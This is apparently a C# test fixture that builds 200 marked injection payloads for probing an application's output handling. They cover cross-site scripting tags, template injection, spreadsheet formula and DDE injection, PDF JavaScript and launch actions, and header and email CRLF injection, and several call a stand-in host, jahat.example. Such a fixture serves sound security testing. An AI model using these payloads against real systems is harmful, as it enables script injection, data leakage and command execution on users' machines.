namespace Layar.Testing;

/// <summary>Two hundred words that would be more than words where they are not written as such. Each carries a mark by which it is found again.</summary>
public static class Payloads
{
    private static readonly string[] Scripts =
    [
        "<script>alert('{0}')</script>", "\"><script src=//jahat.example/{0}.js></script>", "<img src=x onerror=alert('{0}')>", "'\"><svg onload=alert('{0}')>", "<svg><script>alert('{0}')</script></svg>",
        "<body onload=alert('{0}')>", "<iframe srcdoc='<script>alert(\"{0}\")</script>'>", "<a href=javascript:alert('{0}')>klik</a>", "javascript:alert('{0}')", "<details open ontoggle=alert('{0}')>",
        "</textarea><script>alert('{0}')</script>", "</title><script>alert('{0}')</script>", "--><script>alert('{0}')</script>", "]]><script>alert('{0}')</script>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('{0}')>",
        "<meta http-equiv=refresh content='0;url=//jahat.example/{0}'>", "<base href=//jahat.example/{0}>", "<object data=data:text/html,{0}>", "<embed src=//jahat.example/{0}>", "<form action=//jahat.example/{0}><button>",
        "<input autofocus onfocus=alert('{0}')>", "<style>@import '//jahat.example/{0}';</style>", "<link rel=stylesheet href=//jahat.example/{0}>", "&lt;script&gt;{0}", "&#60;script&#62;alert('{0}')&#60;/script&#62;",
        "\\u003cscript\\u003e{0}", "＜script＞{0}＜/script＞", "%3Cscript%3E{0}", "@{0} @(1+1) @Html.Raw(1)", "{{{{constructor.constructor('{0}')()}}}} ${{7*7}} #{{7*7}}",
    ];

    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://jahat.example/{0}\")", "+1+cmd|' /C calc'!A0 {0}", "-2+3 {0}", "@SUM(1) {0}", "\t=1+1 {0}", " =1+1 {0}", "＝1+1 {0}", "＋1 {0}", "－1 {0}", "＠SUM {0}", "=cmd|'/C {0}'!A0", "|calc {0}", "%0A=1 {0}",
    ];

    private static readonly string[] Papers = ["{0}) /OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "{0} endstream endobj 9 0 obj << /S /Launch /F (cmd) >>", "<</AA<</O<</S/URI/URI(http://jahat.example/{0})>>>>>>", "{{#each {0}}}{{{{this}}}}", "{0}<pdf:attach src='/etc/passwd'>", "{0}\\) Tj ET /EmbeddedFile"];

    private static readonly string[] Headers = ["{0}\r\nX-Jahat: 1", "{0}\nSet-Cookie: a=b", "{0}%0d%0aX-Jahat: 1", "{0}\r\n\r\n<script>alert(1)</script>", "{0}\u2028X-Jahat: 1", "=?utf-8?B?{0}?=\r\nBcc: semua@contoh.id"];

    /// <summary>Payload and mark.</summary>
    public static IReadOnlyList<(string Text, string Mark)> All { get; } = [.. Enumerable.Range(0, 200).Select(i =>
    {
        var mark = $"tanda{i:000}x";
        var all = Scripts.Concat(Formulas).Concat(Papers).Concat(Headers).ToList();
        return (string.Format(System.Globalization.CultureInfo.InvariantCulture, all[i % all.Count], mark) + (i / all.Count) switch { 0 => "", 1 => " \"'`", 2 => " <!--", _ => " \\\"" }, mark);
    })];
}
